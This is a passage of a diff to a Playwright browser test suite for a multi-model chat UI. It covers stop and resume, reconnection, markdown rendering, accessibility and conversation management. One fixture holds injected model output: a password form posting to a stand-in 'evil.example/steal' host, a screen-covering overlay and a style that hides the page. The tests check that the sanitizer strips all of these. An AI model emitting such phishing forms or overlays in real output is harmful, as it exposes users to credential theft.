@@ -4,7 +4,14 @@ The page is served by ``create_ui_app`` (uvicorn in a thread) against the projec
 OpenAI server (in another thread). Both are started once for the module; each test opens a
 fresh page. Skipped when Playwright or ``/usr/bin/chromium`` is missing, unless
 ``MOA_REQUIRE_BROWSER=1`` (``scripts/test`` installs both and sets it). Screenshots of a
-finished run go to ``artifacts/ui/`` (gitignored).
+state go to ``artifacts/ui/`` (gitignored); ``MOA_REFRESH_DOCS_PICTURE=1`` also refreshes
+``docs/ui.png`` (the README's picture) from the wide council view of
+``test_axe_finds_no_serious_violation_in_either_theme_or_width``.
+Accessibility is checked by axe-core (``tests/vendor/axe.min.js``, vendored for the tests only:
+the page never ships it), in both colour schemes, wide and phone.
+
+The issue each test reproduces is named in its docstring (issue 23, items 1-14; issue 20 item
+9 for model output that tries to draw a form or an overlay).
 """
 
 from __future__ import annotations
@@ -39,6 +46,26 @@ ARGS = [
     "--no-first-run",
 ]
 ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts" / "ui"
+VIEWPORTS = {"wide": (1440, 900), "phone": (390, 844)}
+AXE = Path(__file__).resolve().parent / "vendor" / "axe.min.js"
+DOCS_PICTURE = Path(__file__).resolve().parents[1] / "docs" / "ui.png"
+RANKER_MD = "B reads best, then A.\nRANKING: B > A > C"
+DELTA_MD = "**Delta** thinks:\n\n" + "\n".join(f"- point {i}: some words here" for i in range(40))
+RICH_MD = (
+    "| model | score |\n|---|---|\n| alpha | 0.91 |\n| beta-with-a-long-name | 0.87 |\n\n"
+    "See [the docs](https://example.org/docs) and ![a chart](https://example.org/chart.png).\n\n"
+    "```mermaid\ngraph TD\n  A[question] --> B[answer]\n"
+    "  classDef cover position:fixed,top:0,left:0,width:100vw,height:100vh\n"
+    "  class B cover\n```\n\n"
+    "```python\nprint('hi')\n```\n\n"
+    '<form action="https://evil.example/steal"><input name="pw" placeholder="password">'
+    "<button>Log in</button><textarea>t</textarea><select><option>o</option></select></form>\n\n"
+    '<div style="position:fixed;inset:0;background:red" id="send" class="error">overlay</div>\n\n'
+    "<style>body { display: none }</style>\n\nThe end.\n"
+)
+LONG_MD = "\n\n".join(
+    f"Paragraph {i}: " + " ".join(f"word{i}x{j}" for j in range(60)) for i in range(90)
+)
 ANSWER_MD = (
     "## Two plus two\n\nThe proposers agree:\n\n- it is **4**\n- in any base above 4\n\n"
     "```python\nassert 2 + 2 == 4\n```\n"
@@ -106,6 +133,10 @@ class Served:
                 "judge": Behavior(content=ANSWER_MD, token_delay=0.005),
                 "slowpoke": Behavior(tokens=12, token_delay=0.25),
                 "sloth": Behavior(latency=4.0),
+                "ranker": Behavior(content=RANKER_MD),
+                "delta": Behavior(content=DELTA_MD, token_delay=0.002),
+                "rich": Behavior(content=RICH_MD, respect_max_tokens=False),
+                "longjudge": Behavior(content=LONG_MD, token_delay=0.001, respect_max_tokens=False),
             }
         ).start()
         url = self.models.base_url
@@ -158,8 +189,27 @@ class Served:
                 "review": True,
             }
         )
+        council = parse_spec(
+            {
+                "name": "council",
+                "layers": [[_model(url, n) for n in ("alpha", "beta", "delta")]],
+                "rank": {"judge": _model(url, "ranker"), "top_k": 2},
+                "aggregator": _model(url, "judge"),
+            }
+        )
+        one = [[_model(url, "alpha")]]
         specs = {"mix": spec, "keyed": keyed, "streaming": streaming, "rescue": rescue}
         specs["reviewed"] = reviewed
+        specs["council"] = council
+        specs["judgefails"] = parse_spec(
+            {"name": "judgefails", "layers": one, "aggregator": _model(url, "broken")}
+        )
+        specs["rich"] = parse_spec(
+            {"name": "rich", "layers": one, "aggregator": _model(url, "rich")}
+        )
+        specs["long"] = parse_spec(
+            {"name": "long", "layers": one, "aggregator": _model(url, "longjudge", timeout=90)}
+        )
         app = create_ui_app(specs, db_path=tmp / "threads.sqlite")
         self.server, self.thread, self.url = serve(app)
 
@@ -235,9 +285,23 @@ class Page:
     errors: list[str]
 
     @classmethod
-    async def open(cls, browser: Any, url: str, width: int = 1280, height: int = 900) -> Page:
+    async def open(
+        cls,
+        browser: Any,
+        url: str,
+        width: int = 1280,
+        height: int = 900,
+        *,
+        dark: bool = False,
+        axe: bool = False,
+    ) -> Page:
+        """``axe``: the context bypasses the page's CSP so the test can inject axe-core."""
         self = cls()
-        self.context = await browser.new_context(viewport={"width": width, "height": height})
+        self.context = await browser.new_context(
+            viewport={"width": width, "height": height},
+            color_scheme="dark" if dark else "light",
+            bypass_csp=axe,
+        )
         self.page = await self.context.new_page()
         self.page.set_default_timeout(TIMEOUT_MS)
         self.errors = []
@@ -263,6 +327,43 @@ class Page:
             where = _dump_where_everything_waits()
             raise AssertionError(f"no summary under the turn; {why}; {where}") from exc
         return turn
+
+    async def start(self, question: str, spec: str | None = None) -> Any:
+        """Send a question without waiting for the answer; returns the new turn."""
+        if spec:
+            await self.page.select_option("#spec", spec)
+        turns = self.page.locator("article.turn")
+        before = await turns.count()
+        await self.page.fill("#question", question)
+        await self.page.press("#question", "Enter")
+        turn = turns.nth(before)
+        await turn.wait_for()
+        return turn
+
+    async def shot(self, name: str, full_page: bool = False) -> Path:
+        ARTIFACTS.mkdir(parents=True, exist_ok=True)
+        path = ARTIFACTS / f"{name}.png"
+        await self.page.screenshot(path=str(path), full_page=full_page)
+        return path
+
+    async def axe(self) -> list[dict[str, Any]]:
+        """Serious and critical axe-core violations of the page as it is now."""
+        if not await self.page.evaluate("typeof window.axe !== 'undefined'"):
+            await self.page.add_script_tag(content=AXE.read_text(encoding="utf-8"))
+        found = await self.page.evaluate(
+            """async () => {
+              const r = await axe.run(document, {resultTypes: ["violations"]});
+              return r.violations.map((v) => ({id: v.id, impact: v.impact,
+                nodes: v.nodes.slice(0, 4).map((n) => n.target.join(" ") + " :: "
+                  + (n.failureSummary || "").slice(0, 200))}));
+            }"""
+        )
+        return [v for v in found if v["impact"] in ("serious", "critical")]
+
+    async def thread_id(self) -> str:
+        url = self.page.url
+        assert "#thread=" in url, url
+        return url.split("#thread=", 1)[1]
 
     async def close(self) -> None:
         await self.context.close()
@@ -408,7 +509,10 @@ async def test_proposer_text_streams_into_its_card(page: Page) -> None:
     assert page.errors == []
 
 
-async def test_stop_cancels_the_run(page: Page, served: Served) -> None:
+async def test_stop_cancels_the_run_and_keeps_what_had_finished(
+    page: Page, served: Served, browser: Any
+) -> None:
+    """Issue 23 item 3 (Stop) and item 7 (honest statuses after Stop)."""
     p = page.page
     await p.select_option("#spec", "streaming")
     served.models.reset()
@@ -416,17 +520,81 @@ async def test_stop_cancels_the_run(page: Page, served: Served) -> None:
     await p.press("#question", "Enter")
     card = p.locator('.card[data-node="layer_1/slowpoke"]')
     await card.locator(".text").filter(has_text="slowpoke").wait_for()
-    assert await p.inner_text("#send") == "Stop"
-    await p.click("#send")
-    error = p.locator("article.turn .error")
-    await error.filter(has_text="Stopped").wait_for()
-    assert await p.inner_text("#send") == "Send"
-    # The server cancelled the graph run: the model request was dropped mid-answer.
+    alpha = p.locator('.card[data-node="layer_1/alpha"]')
+    await alpha.locator(".status").filter(has_text="done").wait_for()
+    assert await p.is_visible("#stop")
+    clicked = time.time()
+    await p.click("#stop")
+    await p.locator("article.turn .stopped-note").filter(has_text="Stopped").wait_for()
+    assert not await p.is_visible("#stop")
+    # The server cancelled the graph run: the model request was abandoned within 2 s.
     deadline = time.monotonic() + 10
     while [r["outcome"] for r in served.models.log("slowpoke")] != ["cancelled"]:
         assert time.monotonic() < deadline, served.models.log("slowpoke")
-        await asyncio.sleep(0.1)
+        await asyncio.sleep(0.05)
+    ended = served.models.log("slowpoke")[0]["end"]
+    assert ended - clicked < 2.0, f"the upstream request ended {ended - clicked:.2f} s after Stop"
     assert served.models.log("judge") == []
+    # Honest statuses: the streaming card was stopped (not failed), the aggregator never ran
+    # (muted, not red), the layer no longer says "running".
+    assert (await card.locator(".status").inner_text()).lower() == "stopped"
+    final = p.locator(".final .status")
+    assert (await final.inner_text()).lower() == "not run"
+    assert "s-notrun" in (await final.get_attribute("class") or "")
+    assert "running" not in await p.locator(".layer h3").first.inner_text()
+    await page.shot("stopped")
+    # Reopened, the conversation keeps what had finished: alpha's answer and its call.
+    again = await Page.open(browser, p.url)
+    try:
+        turn = again.page.locator("article.turn").first
+        await (
+            turn.locator('.card[data-node="layer_1/alpha"] .text')
+            .filter(has_text="alpha says")
+            .wait_for()
+        )
+        assert "0 calls" not in await turn.locator(".summary").inner_text()
+        assert "Stopped" in await turn.locator(".stopped-note").inner_text()
+        assert await turn.locator("button.resume").is_visible()
+        # Resume goes on from the checkpoint: only what had not finished is called again.
+        await turn.locator("button.resume").click()
+        await _done(turn)
+        assert len(served.models.log("alpha")) == 1
+        assert [r["outcome"] for r in served.models.log("slowpoke")] == ["cancelled", "ok"]
+        assert len(served.models.log("judge")) == 1
+        assert "Two plus two" in await turn.locator(".final .markdown").inner_text()
+    finally:
+        await again.close()
+    assert page.errors == []
+
+
+async def test_a_dropped_connection_resumes_with_last_event_id(page: Page, served: Served) -> None:
+    """Issue 23 item 3 (a dropped connection): the first event stream breaks after its first
+    event; the page says so, reconnects asking only for the events after it (Last-Event-ID),
+    and the turn finishes with every text once."""
+    p = page.page
+    sent: list[dict[str, str]] = []
+
+    async def break_first(route: Any) -> None:
+        sent.append(route.request.headers)
+        if len(sent) == 1:  # one event, then the connection ends mid-run
+            body = 'id: 0\nevent: run\ndata: {"resumed": false}\n\n'
+            await route.fulfill(status=200, content_type="text/event-stream", body=body)
+        else:
+            await route.continue_()
+
+    await p.route("**/ui/api/runs/*/events", break_first)
+    served.models.reset()
+    await page.start("Lose the line", "streaming")
+    await p.locator("#notice").filter(has_text="reconnecting").wait_for()
+    turn = p.locator("article.turn").first
+    await _done(turn)
+    card = turn.locator('.card[data-node="layer_1/slowpoke"]')
+    words = (await card.locator(".text").inner_text()).split()
+    assert len(words) == 12 and words[-1] == "w12", words
+    assert len(sent) == 2 and sent[1].get("last-event-id") == "0", sent
+    for model in ("alpha", "slowpoke", "judge"):
+        assert len(served.models.log(model)) == 1, model
+    assert "Two plus two" in await turn.locator(".final .markdown").inner_text()
     assert page.errors == []
 
 
@@ -466,16 +634,648 @@ async def test_a_review_pause_is_edited_and_continued(page: Page, served: Served
     assert page.errors == []
 
 
-async def test_errors_are_shown_on_the_page(page: Page) -> None:
+async def test_a_refused_run_says_why_and_keeps_the_question(page: Page) -> None:
+    """A run the server refuses (a spec without its keys) says so; the question stays typed;
+    the server's environment variables are never named to the page (issue 20 item 7)."""
     p = page.page
     await p.select_option("#spec", "keyed")
     await p.fill("#question", "Hello?")
     await p.press("#question", "Enter")
-    error = p.locator("article.turn .error")
-    await error.wait_for()
-    assert "MOA_UNSET_KEY_X" in await error.inner_text()
+    await p.locator("#banner").filter(has_text="not configured").wait_for()
+    assert "MOA_UNSET_KEY_X" not in await p.locator("body").inner_text()
+    assert await p.input_value("#question") == "Hello?"
+    assert await p.locator("article.turn").count() == 0
     # The failed request is the only console error (the browser logs the HTTP 400 itself).
     assert all("400" in e for e in page.errors), page.errors
+
+
+async def _done(turn: Any) -> None:
+    """Wait for the turn to end (its summary and its tools show); on a timeout, say what the
+    page showed instead."""
+    try:
+        await turn.locator(".summary").filter(has_text="critical path").wait_for()
+        await turn.locator(".turn-tools").wait_for()
+    except Exception as exc:
+        page = turn.page
+        shown = await page.locator("main").inner_text()
+        raise AssertionError(f"no summary under the turn; the page shows {shown!r}") from exc
+
+
+async def _gone(locator: Any, text: str) -> None:
+    """Wait until ``locator`` no longer shows ``text`` (wait_for_function would eval a string,
+    which the page's CSP refuses)."""
+    deadline = time.monotonic() + TIMEOUT_MS / 1000
+    while text in await locator.inner_text():
+        assert time.monotonic() < deadline, f"{text!r} is still shown"
+        await asyncio.sleep(0.1)
+
+
+async def _visible_in_viewport(page: Any, selector: str) -> dict[str, float]:
+    return await page.evaluate(
+        """(sel) => {
+          const r = document.querySelector(sel).getBoundingClientRect();
+          const top = document.querySelector(".top").getBoundingClientRect().bottom;
+          const bottom = document.getElementById("ask").getBoundingClientRect().top;
+          return {top: r.top, bottom: r.bottom, min: top, max: bottom};
+        }""",
+        selector,
+    )
+
+
+async def test_phone_drawer_is_above_the_header_and_closes(browser: Any, served: Served) -> None:
+    """Issue 23 item 1: on a phone the conversation drawer covers the two-row header, its
+    "+ New conversation" takes the tap, and Esc, the close button or a tap outside close it."""
+    page = await Page.open(browser, served.url, *VIEWPORTS["phone"])
+    p = page.page
+    try:
+        await page.ask("Drawer test?")
+        assert not await p.is_visible("#threads")
+        await p.click("#toggle-threads")
+        assert await p.is_visible("#threads")
+        assert await p.evaluate("document.activeElement.id") == "new-thread"
+        # What a tap on the button's centre hits is the button itself, not the Spec select.
+        hit = await p.evaluate(
+            """() => { const r = document.getElementById("new-thread").getBoundingClientRect();
+              return document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2).id; }"""
+        )
+        assert hit == "new-thread"
+        # Modal: Tab stays in the drawer (the page behind it is inert).
+        for _ in range(6):
+            await p.keyboard.press("Tab")
+            inside = await p.evaluate("!!document.activeElement.closest('#threads')")
+            assert inside or await p.evaluate("document.activeElement === document.body")
+        await page.shot("phone-drawer")
+        await p.keyboard.press("Escape")
+        assert not await p.is_visible("#threads")
+        assert await p.get_attribute("#toggle-threads", "aria-expanded") == "false"
+        await p.click("#toggle-threads")
+        await p.mouse.click(375, 500)  # the dimmed page beside the drawer
+        assert not await p.is_visible("#threads")
+        await p.click("#toggle-threads")
+        await p.click("#close-threads")
+        assert not await p.is_visible("#threads")
+        await p.click("#toggle-threads")
+        await p.click("#new-thread")
+        assert not await p.is_visible("#threads")
+        assert await p.locator("article.turn").count() == 0
+        assert "New conversation" in await p.locator("#conversation .empty").inner_text()
+        assert page.errors == []
+    finally:
+        await page.close()
+
+
+async def test_double_click_on_send_sends_once_and_does_not_stop(
+    page: Page, served: Served
+) -> None:
+    """Issue 23 item 2: the second click of a double-click is not Stop."""
+    p = page.page
+    served.models.reset()
+    await p.fill("#question", "Double?")
+    await p.dblclick("#send")
+    turn = p.locator("article.turn").first
+    await _done(turn)
+    assert await p.locator("article.turn").count() == 1
+    assert await turn.locator(".stopped-note").is_hidden()
+    assert len(served.models.log("judge")) == 1
+    assert len(served.models.log("alpha")) == 2  # one per layer
+    await p.locator("#thread-list .thread", has_text="Double?").first.wait_for()
+    assert page.errors == []
+
+
+async def test_a_reload_mid_run_reattaches_and_the_run_finishes_once(
+    page: Page, served: Served
+) -> None:
+    """Issue 23 item 3: reloading mid-run neither kills nor repeats the run."""
+    p = page.page
+    served.models.reset()
+    await page.start("Survive a reload", "streaming")
+    card = p.locator('.card[data-node="layer_1/slowpoke"]')
+    await card.locator(".text").filter(has_text="slowpoke").wait_for()
+    await p.reload()
+    turn = p.locator("article.turn").first
+    # Live again: the slow card is still running, then everything finishes.
+    await (
+        turn.locator('.card[data-node="layer_1/slowpoke"] .status')
+        .filter(has_text="running")
+        .wait_for()
+    )
+    assert await p.evaluate("document.title.startsWith('●')")
+    await _done(turn)
+    text = await turn.locator('.card[data-node="layer_1/slowpoke"] .text').inner_text()
+    assert len(text.split()) == 12
+    assert "Two plus two" in await turn.locator(".final .markdown").inner_text()
+    for model in ("alpha", "slowpoke", "judge"):
+        assert len(served.models.log(model)) == 1, (model, served.models.log(model))
+    assert await p.locator("article.turn").count() == 1
+    assert not await p.evaluate("document.title.startsWith('●')")
+    assert page.errors == []
+
+
+async def test_a_review_pause_survives_a_reload(page: Page, served: Served) -> None:
+    """Issue 23 item 4: after a reload the paused turn still offers Continue."""
+    p = page.page
+    served.models.reset()
+    await page.start("Pause and reload?", "reviewed")
+    await p.locator(".final .review").wait_for()
+    await p.reload()
+    review = p.locator(".final .review")
+    await review.wait_for()
+    assert (await p.locator(".final .status").inner_text()).lower() == "paused"
+    assert (
+        await p.locator(".turn .error").count() == 0
+        or await p.locator(".turn .error").first.is_hidden()
+    )
+    await review.locator("textarea").nth(0).fill("alpha, edited after a reload")
+    await review.locator("button.continue").click()
+    await _done(p.locator("article.turn").first)
+    assert "alpha, edited after a reload" in str(served.models.log("judge")[0]["messages"])
+    assert len(served.models.log("alpha")) == 1
+    assert page.errors == []
+
+
+@pytest.mark.slow
+async def test_the_answer_is_brought_into_view_and_the_stream_followed(
+    browser: Any, served: Served
+) -> None:
+    """Issue 23 item 5: the finished answer is in view at 1440x900; the page follows the
+    stream, offers "jump to latest" once the user scrolls away; a reopened conversation
+    starts at its last turn."""
+    page = await Page.open(browser, served.url, *VIEWPORTS["wide"])
+    p = page.page
+    try:
+        await page.ask("First of two?")
+        await page.ask("Second of two?")
+        box = await _visible_in_viewport(p, "article.turn:last-of-type .final header")
+        assert box["min"] <= box["top"] and box["bottom"] <= box["max"], box
+        await page.shot("answer-in-view")
+        # A long answer: followed while it streams; scrolled away, "jump to latest" shows.
+        turn = await page.start("Write a lot", "long")
+        await turn.locator(".final .markdown p").nth(3).wait_for()
+        await asyncio.sleep(0.3)
+        at_bottom = "innerHeight + scrollY >= document.documentElement.scrollHeight - 120"
+        assert await p.evaluate(at_bottom), "the page does not follow the stream"
+        await p.mouse.wheel(0, -3000)
+        await p.locator("#jump").wait_for()
+        await page.shot("jump-to-latest")
+        await p.click("#jump")
+        await asyncio.sleep(0.3)
+        assert await p.evaluate(at_bottom)
+        await _done(turn)
+        reopened = await Page.open(browser, p.url, *VIEWPORTS["wide"])
+        try:
+            last = reopened.page.locator("article.turn").last
+            await _done(last)
+            await asyncio.sleep(0.2)
+            top = await last.evaluate("(e) => e.getBoundingClientRect().top")
+            assert 0 <= top < 200, f"the reopened conversation starts elsewhere ({top})"
+        finally:
+            await reopened.close()
+        assert page.errors == []
+    finally:
+        await page.close()
+
+
+async def test_new_conversation_placeholder_goes_with_the_first_turn(page: Page) -> None:
+    """Issue 23 item 6."""
+    p = page.page
+    await page.ask("Before new?")
+    await p.click("#new-thread")
+    assert await p.is_visible("#conversation .empty")
+    await page.ask("After new?")
+    assert await p.locator("#conversation .empty").count() == 0
+    assert await p.locator("article.turn").count() == 1
+    assert page.errors == []
+
+
+async def test_a_failed_aggregator_is_counted_and_its_reason_kept(page: Page, browser: Any) -> None:
+    """Issue 23 item 7: the summary counts the failed aggregator; a reopened failed turn shows
+    its real reason, not "this turn did not finish"."""
+    p = page.page
+    await page.start("Judge, fail", "judgefails")
+    error = p.locator("article.turn .error")
+    await error.wait_for()
+    reason = await error.inner_text()
+    assert "503" in reason, reason
+    await p.locator("article.turn .summary").filter(has_text="critical path").wait_for()
+    summary = await p.locator("article.turn .summary").inner_text()
+    assert "2 calls" in summary and "1 failed" in summary, summary
+    assert (await p.locator(".final .status").inner_text()).lower() == "failed"
+    again = await Page.open(browser, p.url)
+    try:
+        stored = again.page.locator("article.turn .error")
+        await stored.wait_for()
+        assert "503" in await stored.inner_text()
+        assert "did not finish" not in await stored.inner_text()
+    finally:
+        await again.close()
+
+
+async def test_markdown_tables_links_images_mermaid_code_and_no_forms(
+    browser: Any, served: Served
+) -> None:
+    """Issue 23 item 8 (tables, links, images, Mermaid, code copy, dark links) and issue 20
+    item 9 (model output cannot draw a form, an overlay or restyle the page)."""
+    for dark in (False, True):
+        page = await Page.open(browser, served.url, *VIEWPORTS["wide"], dark=dark)
+        p = page.page
+        try:
+            await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+            await p.select_option("#spec", "rich")
+            turn = await page.ask("Show me everything")
+            md = turn.locator(".final .markdown")
+            cell = md.locator("td").first
+            assert await cell.evaluate("(e) => getComputedStyle(e).borderTopStyle") == "solid"
+            assert await cell.evaluate("(e) => parseFloat(getComputedStyle(e).paddingLeft)") > 4
+            link = md.locator("a", has_text="the docs")
+            assert await link.get_attribute("target") == "_blank"
+            assert "noopener" in (await link.get_attribute("rel") or "")
+            # An external image is a link, never a request (the CSP would refuse it per frame).
+            assert await md.locator("img").count() == 0
+            assert "[image: a chart]" in await md.inner_text()
+            await md.locator(".mermaid-figure svg").wait_for()
+            # Mermaid's own styles apply (edges drawn) but nothing escapes the figure.
+            figure = await md.locator(".mermaid-figure").bounding_box()
+            assert await md.locator(".mermaid-figure svg g.node").count() == 2
+            for node in await md.locator(".mermaid-figure svg g.node").all():
+                box = await node.bounding_box()
+                if box and box["width"] > 0:
+                    assert box["y"] >= figure["y"] - 1 and box["x"] >= figure["x"] - 1, box
+            send = await p.locator("#send").bounding_box()
+            hit = await p.evaluate(
+                "([x, y]) => document.elementFromPoint(x, y).id",
+                [send["x"] + send["width"] / 2, send["y"] + send["height"] / 2],
+            )
+            assert hit == "send", f"something covers the Send button: {hit!r}"
+            code = md.locator(".code", has_text="print('hi')")
+            await code.locator("button.copy-code").click()
+            assert await p.evaluate("navigator.clipboard.readText()") == "print('hi')\n"
+            # Nothing from the model can submit, overlay or restyle.
+            for tag in ("form", "input", "textarea", "select", "style", "[style]", "[id]"):
+                found = await md.evaluate(  # Mermaid's own SVG styles itself: not model output
+                    "(e, t) => [...e.querySelectorAll(t)].filter((n) =>"
+                    " !n.closest('.mermaid-figure')).length",
+                    tag,
+                )
+                assert found == 0, tag
+            assert await md.locator("button:not(.copy-code)").count() == 0
+            assert await p.locator("#send").count() == 1
+            assert await p.evaluate("getComputedStyle(document.body).display") != "none"
+            assert "The end." in await md.inner_text()
+            colour = await link.evaluate(
+                """(a) => { const c = getComputedStyle(a).color.match(/\\d+/g).map(Number);
+                  const lum = (v) => { v /= 255; return v <= 0.03928 ? v / 12.92
+                    : Math.pow((v + 0.055) / 1.055, 2.4); };
+                  const L = (rgb) => 0.2126 * lum(rgb[0]) + 0.7152 * lum(rgb[1])
+                    + 0.0722 * lum(rgb[2]);
+                  const bg = getComputedStyle(a.closest('.final')).backgroundColor
+                    .match(/\\d+/g).map(Number);
+                  const [hi, lo] = [L(c), L(bg)].sort((x, y) => y - x);
+                  return (hi + 0.05) / (lo + 0.05); }"""
+            )
+            assert colour >= 4.5, f"link contrast {colour:.2f} ({'dark' if dark else 'light'})"
+            await page.shot(f"markdown-{'dark' if dark else 'light'}", full_page=True)
+            csp = [e for e in page.errors if "Content Security Policy" in e]
+            assert csp == [], csp
+        finally:
+            await page.close()
+
+
+async def test_the_council_view(browser: Any, served: Served) -> None:
+    """Issue 23 items 9 and 10: each proposer's answer as Markdown, readable in full and
+    copyable, the ranking (each ranker's order, the table, kept and dropped), references
+    labelled with their model, every call shown (rankers too), timers while running."""
+    page = await Page.open(browser, served.url, *VIEWPORTS["wide"])
+    p = page.page
+    try:
+        await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+        turn = await page.start("Which answer is best?", "council")
+        delta = turn.locator('.card[data-node="layer_1/delta"]')
+        await delta.locator(".timer").wait_for()  # a running timer on the running card
+        assert "s" in await delta.locator(".timer").inner_text()
+        await _done(turn)
+        assert await delta.locator(".timer").is_hidden()
+        assert await delta.locator(".text strong").inner_text() == "Delta"
+        text = delta.locator(".text")
+        assert await text.evaluate("(e) => e.scrollHeight > e.clientHeight + 5")
+        await delta.locator("button.expand").click()
+        assert await text.evaluate("(e) => e.scrollHeight <= e.clientHeight + 1")
+        await delta.locator("button.copy").click()
+        assert await p.evaluate("navigator.clipboard.readText()") == DELTA_MD
+        ranking = turn.locator(".layer .ranking")
+        await ranking.wait_for()
+        rows = ranking.locator("tbody tr")
+        assert await rows.count() == 3
+        assert await ranking.locator("tr.kept").count() == 2
+        assert await ranking.locator("tr.dropped").count() == 1
+        assert "dropped" in await ranking.locator("summary").inner_text()
+        assert "ranker ranked:" in await ranking.locator(".rankers").inner_text()
+        dropped = turn.locator(".card.dropped")
+        assert await dropped.count() == 1
+        assert (await dropped.locator(".badge").inner_text()).lower() == "dropped"
+        # Every call is on the page: 3 cards + 1 ranker chip + the aggregator = the summary.
+        chips = turn.locator(".extras .chip")
+        assert await chips.count() == 1
+        assert "ranker" in await chips.first.inner_text()
+        assert "5 calls" in await turn.locator(".summary").inner_text()
+        refs = turn.locator(".final details.refs")
+        await refs.locator("summary").click()
+        labels = await refs.locator(".ref-model").all_inner_texts()
+        assert len(labels) == 2
+        dropped_model = (await dropped.locator(".model").inner_text()).strip()
+        assert all(label.rstrip(": ") in ("alpha", "beta", "delta") for label in labels)
+        assert all(label.rstrip(": ") != dropped_model for label in labels)
+        await refs.locator("summary").click()
+        await page.shot("council", full_page=True)
+        # The same view from the stored thread.
+        again = await Page.open(browser, p.url, *VIEWPORTS["wide"])
+        try:
+            stored = again.page.locator("article.turn").first
+            await _done(stored)
+            await stored.locator(".ranking tr.dropped").wait_for()
+            assert await stored.locator(".card.dropped").count() == 1
+            assert await stored.locator(".final .ref-model").count() == 2
+        finally:
+            await again.close()
+        assert page.errors == []
+    finally:
+        await page.close()
+
+
+async def test_retry_the_synthesis_regenerate_and_edit(page: Page, served: Served) -> None:
+    """Issue 23, council view: retry only the synthesis (no proposer called), regenerate the
+    turn, edit the question and resend it."""
+    p = page.page
+    await p.select_option("#spec", "council")
+    turn = await page.ask("Retry me?")
+    served.models.reset()
+    await turn.locator("button.retry-synthesis").click()
+    await turn.locator(".final .status").filter(has_text="done").wait_for()
+    await _done(turn)
+    assert len(served.models.log("judge")) == 1
+    for proposer in ("alpha", "beta", "delta", "ranker"):
+        assert served.models.log(proposer) == [], proposer
+    assert "Two plus two" in await turn.locator(".final .markdown").inner_text()
+    assert await p.locator("article.turn").count() == 1
+
+    served.models.reset()
+    await turn.locator("button.regenerate").click()
+    fresh = p.locator("article.turn").first
+    await _done(fresh)
+    assert len(served.models.log("alpha")) == 1 and len(served.models.log("judge")) == 1
+    assert await p.locator("article.turn").count() == 1
+
+    served.models.reset()
+    await fresh.locator("button.edit").click()
+    await fresh.locator(".edit-box textarea").fill("Edited question?")
+    await fresh.locator(".edit-box button.resend").click()
+    edited = p.locator("article.turn").first
+    await edited.locator(".question").filter(has_text="Edited question?").wait_for()
+    await _done(edited)
+    assert "Edited question?" in str(served.models.log("alpha")[0]["messages"])
+    assert "Retry me?" not in str(served.models.log("alpha")[0]["messages"])
+    assert await p.locator("article.turn").count() == 1
+    await page.shot("retried")
+    assert page.errors == []
+
+
+async def test_rename_search_export_and_delete_conversations(page: Page) -> None:
+    """Issue 23, council view: rename, delete, search and export conversations."""
+    p = page.page
+    await page.ask("Zebra question?")
+    await p.click("#new-thread")
+    await page.ask("Yak question?")
+    await p.click("#rename")
+    await p.fill(".rename-box input", "Yaks, renamed")
+    await p.press(".rename-box input", "Enter")
+    await p.locator("#thread-list .thread", has_text="Yaks, renamed").wait_for()
+    assert await p.inner_text("#conv-title") == "Yaks, renamed"
+    assert "Yaks, renamed" in await p.title()
+    # Export: Markdown and JSON downloads of this conversation.
+    for fmt, needle in (("md", "Yak question?"), ("json", '"Yak question?"')):
+        href = await p.get_attribute(f"#export-{fmt}", "href")
+        got = await p.evaluate(
+            """async (u) => { const r = await fetch(u);
+              return [r.headers.get('content-disposition'), await r.text()]; }""",
+            href,
+        )
+        assert "attachment" in (got[0] or "") and needle in got[1], (fmt, got)
+    # Search finds the other conversation by its question.
+    await p.fill("#thread-search", "Zebra")
+    await p.locator("#thread-list .thread", has_text="Zebra").wait_for()
+    await _gone(p.locator("#thread-list"), "Yaks, renamed")
+    await p.fill("#thread-search", "")
+    await p.locator("#thread-list .thread", has_text="Yaks, renamed").wait_for()
+    # Delete asks once more, then the conversation is gone.
+    await p.click("#delete")
+    assert await p.inner_text("#delete") == "Really delete?"
+    await p.click("#delete")
+    await p.locator("#notice").filter(has_text="deleted").wait_for()
+    await _gone(p.locator("#thread-list"), "Yaks, renamed")
+    assert await p.locator("article.turn").count() == 0
+    assert page.errors == []
+
+
+async def test_timers_and_a_busy_mark_in_the_tab_title(page: Page) -> None:
+    """Issue 23, council view: running timers on cards and a busy mark in the title."""
+    p = page.page
+    await page.start("Tick tock", "streaming")
+    timer = p.locator('.card[data-node="layer_1/slowpoke"] .timer')
+    await timer.wait_for()
+    first = float((await timer.inner_text()).split()[0])
+    await asyncio.sleep(0.6)
+    later = float((await timer.inner_text()).split()[0])
+    assert later > first
+    assert (await p.title()).startswith("●")
+    await _done(p.locator("article.turn").first)
+    assert not (await p.title()).startswith("●")
+    assert page.errors == []
+
+
+@pytest.mark.slow
+async def test_a_50k_character_answer_streams_incrementally(browser: Any, served: Served) -> None:
+    """Issue 23 item 11: finished blocks are rendered once (a selection in them survives
+    the stream), the main thread stays mostly idle while ~50k characters stream in."""
+    page = await Page.open(browser, served.url, *VIEWPORTS["wide"])
+    p = page.page
+    try:
+        await p.evaluate(
+            """() => { window.__long = 0; new PerformanceObserver((l) => {
+              for (const e of l.getEntries()) window.__long += e.duration;
+            }).observe({type: "longtask", buffered: false}); }"""
+        )
+        turn = await page.start("Write a lot", "long")
+        md = turn.locator(".final .markdown")
+        await md.locator("p").nth(2).wait_for()
+        began = time.monotonic()
+        await p.evaluate("window.__long = 0")
+        # Select the first paragraph while the answer streams; mark its node.
+        await md.locator("p").first.evaluate(
+            """(e) => { e.dataset.probe = "1"; const r = document.createRange();
+              r.selectNodeContents(e); getSelection().removeAllRanges();
+              getSelection().addRange(r); }"""
+        )
+        selected = await p.evaluate("getSelection().toString()")
+        assert selected.startswith("Paragraph 0:")
+        await md.locator("p").nth(30).wait_for()
+        assert await p.evaluate("getSelection().toString()") == selected
+        assert await md.locator("p[data-probe]").count() == 1  # the same node, not re-rendered
+        await _done(turn)
+        streamed = time.monotonic() - began
+        busy = await p.evaluate("window.__long") / 1000
+        assert await md.locator("p").count() == 90
+        assert len(await md.inner_text()) > 45_000
+        assert busy / streamed < 0.3, f"long tasks {busy:.2f} s of {streamed:.2f} s streaming"
+        assert await p.evaluate("getSelection().toString()") == selected
+        assert page.errors == []
+    finally:
+        await page.close()
+
+
+async def test_keyboard_skip_link_and_escape_stops(page: Page, served: Served) -> None:
